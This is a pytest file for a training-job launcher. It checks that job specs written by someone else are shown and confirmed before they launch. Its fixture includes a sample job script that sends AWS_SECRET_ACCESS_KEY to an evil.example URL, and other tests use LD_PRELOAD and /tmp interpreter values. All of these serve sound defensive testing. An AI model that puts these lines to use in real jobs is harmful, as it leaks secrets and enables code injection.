"""Job files of others: shown and asked about before they do anything; one's own are not."""

from __future__ import annotations

import io
import sys
from collections.abc import Callable

import pytest

from jupyter_mntrain.launch.spec_file import write_spec
from jupyter_mntrain.model.errors import SpecError
from jupyter_mntrain.model.records.job import JobSpec, Participant
from tests.standin.screen import Paper
from tests.wording import wording

VARIABLE = "AWS_SECRET_ACCESS_KEY"
HERE = {VARIABLE: "this-user's-own"}
NODES = (Participant(node="wopr"),)
STRANGERS = f"""mntrain_job = 1
entry = ["s.py"]
from_environment = ["{VARIABLE}"]
[[participants]]
node = "wopr"
nproc = 1
[environment]
MNTRAIN_WEBHOOK = "https://evil.example/take"
[files]
"s.py" = '''
import os, urllib.request
urllib.request.urlopen("https://evil.example/?" + os.environ["{VARIABLE}"])
print("done")
'''
"""
TRAINING = JobSpec(
    entry=("-m", "jupyter_mntrain.train", "recipe.toml"),
    participants=NODES,
    files={"recipe.toml": '# https://example.org\n[model]\npreset = "llama-tiny"\n'},
)


@pytest.fixture
def strangers(tmp_path) -> str:
    (tmp_path / "theirs.toml").write_text(STRANGERS)
    return "theirs.toml"


@pytest.fixture
def answers(monkeypatch) -> Callable[[str], list[str]]:
    """A person at a terminal, who gives this answer; what they were asked."""

    def answering(word: str) -> list[str]:
        asked: list[str] = []
        monkeypatch.setattr(sys, "stdin", terminal := io.StringIO())
        monkeypatch.setattr(terminal, "isatty", lambda: True)
        monkeypatch.setattr("builtins.input", lambda prompt: asked.append(prompt) or word)
        return asked

    return answering


@pytest.fixture
def launch(do, cluster, tmp_path):
    """Launch with a shell's variables; how many jobs there are then."""

    def launching(*words: str, **changes) -> int:
        do("launch", *words, "--detach", directory=tmp_path, **{"environment": HERE} | changes)
        return len(cluster.launches)

    return launching


def test_without_a_terminal_it_is_one_line_and_nothing_starts(launch, cluster, strangers):
    with pytest.raises(SpecError, match=wording("add --yes")) as caught:
        launch(strangers)
    said = str(caught.value)
    assert "\n" not in said
    assert VARIABLE in said
    assert "s.py" in said
    assert "evil.example" in said
    assert HERE[VARIABLE] not in said
    assert cluster.launches == []


def test_at_a_terminal_it_is_shown_and_asked(launch, cluster, strangers, answers, text):
    asked, screen = answers("n"), Paper()
    with pytest.raises(SpecError, match=wording("not launched")):
        launch(strangers, screen=screen)
    assert len(asked) == 1
    shown = text(screen.said[0])
    assert [word in shown for word in (VARIABLE, "s.py", "MNTRAIN_WEBHOOK", "evil.example")] == (
        [True] * 4
    )
    assert cluster.launches == []
    asked = answers("yes")
    assert launch(strangers) == 1
    assert launch(strangers) == 2
    assert len(asked) == 1, "asked about once"


def test_what_has_changed_is_asked_about_again(launch, cluster, strangers, tmp_path):
    assert launch(strangers, "--yes") == 1
    assert launch(strangers) == 2
    (tmp_path / strangers).write_text(f"\n{STRANGERS}\n\n")
    assert launch(strangers) == 3, "blank lines say nothing"
    (tmp_path / strangers).write_text(STRANGERS.replace("print(", "exec("))
    with pytest.raises(SpecError):
        launch(strangers)
    assert len(cluster.launches) == 3


def test_json_is_not_mixed_with_a_question(launch, strangers, answers):
    asked = answers("y")
    with pytest.raises(SpecError):
        launch(strangers, "--json")
    assert asked == []


def test_a_notebook_that_nobody_watches_is_no_terminal(launch, strangers, monkeypatch):
    def refuse(_: str) -> str:
        raise NotImplementedError("raw_input was called, but this frontend does not support it")

    monkeypatch.setattr("builtins.input", refuse)
    with pytest.raises(SpecError, match=wording("add --yes")):
        launch(strangers, program="%mntrain")


def test_ones_own_export_is_not_asked_about(do, launch, cluster, tmp_path, recipe, text):
    (tmp_path / "mine.py").write_text("import os\n")
    launch("mine.py", "--env", VARIABLE)
    job = list(cluster._jobs)[-1]
    do("export", job, "--output", "mine.toml", directory=tmp_path)
    printed = do("export", job, directory=tmp_path)
    (tmp_path / "printed.toml").write_text(text(printed.renderable, width=1000) + "\n")
    for file in ("mine.toml", "printed.toml"):
        before = len(cluster.launches)
        assert launch(file) == before + 1


@pytest.mark.parametrize(
    ("changes", "word"),
    [
        ({"environment": {"LD_PRELOAD": "/tmp/x.so"}}, "LD_PRELOAD"),
        ({"python": "/tmp/python"}, "/tmp/python"),
        ({"torchrun_arguments": ("--tee=3",)}, "--tee"),
        ({"files": {**TRAINING.files, "x.py": ""}}, "x.py"),
        ({"entry": ("-m", "http.server"), "workdir": "/tmp"}, "http.server"),
    ],
)
def test_each_thing_beyond_training_is_shown(launch, tmp_path, changes, word):
    fields = {name: getattr(TRAINING, name) for name in TRAINING.__struct_fields__}
    text = write_spec(JobSpec(**fields | changes), with_secrets=True)
    (tmp_path / "theirs.toml").write_text(text)
    with pytest.raises(SpecError) as caught:
        launch("theirs.toml")
    assert word in str(caught.value)


def test_what_only_trains_is_not_asked_about(launch, tmp_path):
    (tmp_path / "theirs.toml").write_text(write_spec(TRAINING))
    assert launch("theirs.toml") == 1
    (tmp_path / "r.toml").write_text(TRAINING.files["recipe.toml"])
    assert launch("r.toml") == 2
    (tmp_path / "s.py").write_text("print(1)\n")
    assert launch("s.py") == 3


def test_a_variable_that_the_person_names_is_no_surprise(launch, tmp_path, answers, text):
    """The rest is still shown."""
    screen = Paper()
    answers("y")
    (tmp_path / "theirs.toml").write_text(STRANGERS)
    launch("theirs.toml", "--env", VARIABLE, screen=screen)
    assert "environment:" not in text(screen.said[0]).replace("variables:", "")


def test_a_dry_run_asks_nothing(do, cluster, strangers, tmp_path):
    do("launch", strangers, "--dry-run", directory=tmp_path, environment=HERE)
    assert cluster.launches == []
